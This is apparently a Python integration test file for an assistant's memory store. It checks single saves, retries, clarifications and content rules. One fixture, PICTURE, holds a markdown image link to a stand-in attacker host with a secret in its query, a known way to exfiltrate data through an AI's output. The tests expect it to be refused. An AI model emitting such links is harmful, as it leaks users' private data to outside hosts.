"""Saving in a conversation: once, in one commit, counted, and without forbidden content.

`tests/integration/characters` records everything else about conversations.
"""

from collections.abc import Generator
from contextlib import closing
from pathlib import Path
from typing import cast

import pytest

from assistant.errors import InputError, NotKept
from assistant.events import Event, Saved
from assistant.kinds import CLARIFICATION
from assistant.types import Reaction
from memory_store.store import Store
from tests.support.memory.loop import ME, RIGHT, WRONG, Loop, read_active
from tests.support.memory.services import memory_of, services_on
from tests.support.memory.store import ANN, save_the_same, small_store
from tests.support.memory.triples import fact
from tests.support.servers.processes import FORKED

PROCESSES = 8
DRAFTS = 12
QUICK = "what is akin to quick ?"
PICTURE = "I meant this one: ![it](https://attacker.test/p.png?q=secret)"


@pytest.mark.promise("saved-once")
def test_same_drafts_of_many_processes_are_saved_once(tmp_path: Path) -> None:
    ready = FORKED.Barrier(PROCESSES)
    processes = [FORKED.Process(target=save_the_same, args=(tmp_path, DRAFTS, ready)) for _ in range(PROCESSES)]
    for process in processes:
        process.start()
    for process in processes:
        process.join()
        assert process.exitcode == 0
    store = small_store(tmp_path)
    assert {entry.question for entry in store.memory.entries(ANN)} == {f"question {number}" for number in range(DRAFTS)}
    assert [change.sequence for change in store.ledger.changes(after=0, limit=99)] == list(range(1, DRAFTS + 1))


@pytest.mark.promise("saved-once")
def test_retry_after_a_lost_response_saves_once(store: Store) -> None:
    loop = Loop(store, WRONG, RIGHT)
    turn = loop.ask(QUICK)
    with closing(cast("Generator[Event]", loop.assistant.clarify(turn.id, "I meant a synonym", ME))) as events:
        assert isinstance(next(events), Saved)
    assert loop.clarify(turn, "  I meant a   SYNONYM ").reply.answer == "fast"
    assert read_active(store) == ["I meant a synonym"]


def test_remembering_replaces_no_fact(store: Store) -> None:
    told = store.memory.remember(fact("my boss is Dana"), ME)
    entry = Loop(store).assistant.remember("who is in charge", "I meant my boss at work", ME)
    assert entry.kind is CLARIFICATION
    assert store.memory.current(told.id, ME) == told


def test_cut_reply_is_no_example(store: Store) -> None:
    loop = Loop(store, "<understanding>a synonym</understanding>\n<answer>fas", "")
    list(loop.assistant.react(loop.ask(QUICK).id, Reaction.CONFIRM, ME))
    assert store.memory.entries(ME) == []


@pytest.mark.promise("content-rules")
def test_refused_text_is_stored_nowhere(store: Store) -> None:
    loop = Loop(store, WRONG, RIGHT)
    turn = loop.ask(QUICK)
    with pytest.raises(NotKept, match="Remove it and save again"):
        list(loop.assistant.clarify(turn.id, PICTURE, ME))
    assert (read_active(store), loop.assistant.turn(turn.id, ME).corrected_by) == ([], None)
    loop.clarify(turn, "a synonym")
    (entry,) = store.memory.entries(ME)
    page, refused = memory_of(services_on(store, loop.assistant)), NotKept("holds.picture").sentence
    assert page.edit({"entry": entry.id, "text": PICTURE}, ME) == {"refused": refused}
    assert page.change_key({"entry": entry.id, "old": "", "new": PICTURE}, ME) == {"refused": refused}
    with pytest.raises(InputError, match="2,001 characters long"):
        store.memory.edit(entry.id, "x" * 2001, ME)
    assert store.memory.entry(entry.id, ME) == entry
